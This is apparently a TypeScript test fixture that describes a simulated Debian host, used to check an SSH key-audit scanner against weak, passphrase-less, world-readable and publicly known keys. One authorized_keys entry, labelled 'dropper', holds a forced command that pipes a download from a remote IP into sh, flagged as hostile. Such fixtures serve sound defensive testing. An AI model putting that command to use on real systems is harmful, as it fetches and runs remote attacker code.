import { groupOf, person, type HostDescription } from '../description.ts'
import { systemAccounts, systemGroups } from '../system-accounts.ts'

const PUBLISHED = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIN1YdxBpNlzxDqfJyw/QKow1F+wvG9hXGoqiysfJOn5Y'
const PUBLISHED_KEY = {
  kind: 'key',
  fingerprint: 'SHA256:WkvqjnyPAeC0cbPErYiGP9vqHdgL1MqqvPdIe3lvHgI',
  algorithm: 'ssh-ed25519',
  bits: 256,
} as const
const SECRET = 'only ivan knows this one'

const people = [
  person(
    'ivan',
    1000,
    { state: 'none', field: '!' },
    {
      authorizedKeys: [
        { type: 'ed25519', comment: 'ivan@desk' },
        { type: 'rsa-1024', comment: 'old', concerns: ['short-rsa'] },
        {
          type: 'ed25519',
          comment: 'dropper',
          options: 'command="curl -fsSL http://203.0.113.9/x | sh"',
          concerns: ['hostile-command'],
        },
        { type: 'ed25519', comment: 'backup', options: 'restrict,command="/usr/bin/rrsync -ro /srv"' },
        { type: 'ed25519', comment: 'guest', options: 'expiry-time="20200101"', refused: 'expired' },
        { type: 'ed25519', comment: 'later', options: 'expiry-time="20991231"' },
      ],
      privateKeys: [
        { type: 'ed25519', comment: 'plain', file: '.ssh/id_ed25519', concerns: ['no-passphrase'] },
        { type: 'rsa-2048', comment: 'locked', file: '.ssh/id_rsa', passphrase: SECRET },
        {
          type: 'rsa-2048',
          comment: 'pem',
          file: '.ssh/old.pem',
          format: 'pkcs1',
          withoutPublicHalf: true,
          concerns: ['no-passphrase'],
        },
        {
          type: 'rsa-2048',
          comment: 'pem locked',
          file: '.ssh/locked.pem',
          format: 'pkcs1',
          passphrase: SECRET,
          withoutPublicHalf: true,
        },
        { type: 'ecdsa-256', comment: 'sec1', file: 'work/ec.pem', format: 'sec1', concerns: ['no-passphrase'] },
        { type: 'rsa-2048', comment: 'pkcs8', file: 'work/p8.pem', format: 'pkcs8', concerns: ['no-passphrase'] },
        { type: 'rsa-2048', comment: 'told by .pub', file: 'work/p8.locked', format: 'pkcs8', passphrase: SECRET },
        {
          type: 'rsa-2048',
          comment: 'hidden',
          file: 'work/p8.hidden',
          format: 'pkcs8',
          passphrase: SECRET,
          withoutPublicHalf: true,
        },
        {
          type: 'ed25519',
          comment: 'putty',
          file: 'work/a.ppk',
          format: 'putty-3',
          passphrase: SECRET,
          withoutPublicHalf: true,
        },
        {
          type: 'ecdsa-521',
          comment: 'putty',
          file: 'work/b.ppk',
          format: 'putty-2',
          withoutPublicHalf: true,
          concerns: ['no-passphrase'],
        },
        {
          type: 'rsa-2048',
          comment: 'tectia',
          file: '.ssh2/id_rsa',
          format: 'ssh.com',
          withoutPublicHalf: true,
          concerns: ['no-passphrase'],
        },
        {
          type: 'rsa-2048',
          comment: '',
          file: '.ssh/id_dropbear',
          format: 'dropbear',
          withoutPublicHalf: true,
          concerns: ['no-passphrase'],
        },
      ],
    },
  ),
  person('judy', 1001, { state: 'none', field: '!' }),
  person('mallory', 1002, { state: 'none', field: '!' }),
] as const

/** Keys in all the places and forms that they are left in. */
export default {
  name: 'ssh-trust',
  base: 'debian',
  purpose: 'private keys of every format, weak and published keys, files that others may change, keys of other hosts',
  accounts: [
    ...systemAccounts('debian', {
      privateKeys: [
        {
          type: 'rsa-2048',
          comment: 'site',
          file: '/etc/ssl/private/site.key',
          format: 'pkcs8',
          mode: 0o640,
          withoutPublicHalf: true,
          nobodys: true,
        },
        {
          type: 'ed25519',
          comment: 'left behind',
          file: '/opt/deploy/keys/deploy',
          mode: 0o644,
          withoutPublicHalf: true,
          concerns: ['file-readable-by-others', 'no-passphrase'],
        },
        { type: 'ed25519', comment: 'forgotten', file: '/tmp/k', withoutPublicHalf: true, concerns: ['no-passphrase'] },
      ],
    }),
    ...people,
  ],
  groups: [...systemGroups('debian', {}), ...people.map(groupOf)],
  files: [
    { type: 'folder', path: '/home/judy/.ssh', mode: 0o755, owner: 1001, group: 1001 },
    {
      type: 'file',
      path: '/home/judy/.ssh/authorized_keys',
      content: `${PUBLISHED} vagrant\n`,
      mode: 0o666,
      owner: 1001,
      group: 1001,
    },
    {
      type: 'file',
      path: '/home/judy/.ssh/known_hosts',
      content: `# hosts\nweb.example.org,192.0.2.1 ${PUBLISHED}\n@revoked old.example.org ${PUBLISHED}\n`,
      mode: 0o600,
      owner: 1001,
      group: 1001,
    },
    { type: 'folder', path: '/home/mallory/.ssh', mode: 0o700, owner: 1002, group: 1002 },
    { type: 'file', path: '/srv/shared_keys', content: `${PUBLISHED} shared\n`, mode: 0o644 },
    { type: 'link', path: '/home/mallory/.ssh/authorized_keys', to: '/srv/shared_keys', owner: 1002, group: 1002 },
    {
      type: 'file',
      path: '/srv/howto.txt',
      content: 'Begin with\n-----BEGIN RSA PRIVATE KEY-----\n...\n',
      mode: 0o644,
    },
    { type: 'file', path: '/srv/node_modules/test/key.pem', content: '-----BEGIN RSA PRIVATE KEY-----\n', mode: 0o644 },
    {
      type: 'file',
      path: '/etc/ssh/ssh_known_hosts',
      content: `@cert-authority *.example.org ${PUBLISHED}\n`,
      mode: 0o644,
    },
  ],
  furtherTruth: [
    {
      ...PUBLISHED_KEY,
      role: 'authorized',
      account: 'judy',
      concerns: ['publicly-known'],
      ineffective: 'strict-modes',
      comment: 'vagrant',
      place: { path: '/home/judy/.ssh/authorized_keys', line: 1 },
    },
    {
      ...PUBLISHED_KEY,
      role: 'authorized',
      account: 'mallory',
      concerns: ['publicly-known', 'symbolic-link'],
      comment: 'shared',
      place: { path: '/home/mallory/.ssh/authorized_keys', line: 1 },
    },
    {
      ...PUBLISHED_KEY,
      concerns: ['publicly-known'],
      role: 'known',
      account: 'judy',
      hosts: ['web.example.org', '192.0.2.1'],
      place: { path: '/home/judy/.ssh/known_hosts', line: 2 },
    },
    {
      ...PUBLISHED_KEY,
      concerns: ['publicly-known'],
      role: 'known',
      account: 'judy',
      hosts: ['old.example.org'],
      options: [{ name: 'revoked' }],
      place: { path: '/home/judy/.ssh/known_hosts', line: 3 },
    },
    {
      ...PUBLISHED_KEY,
      concerns: ['publicly-known'],
      role: 'known',
      hosts: ['*.example.org'],
      options: [{ name: 'cert-authority' }],
      place: { path: '/etc/ssh/ssh_known_hosts', line: 1 },
    },
  ],
  scan: { account: 'root', sudo: 'not-needed' },
} satisfies HostDescription
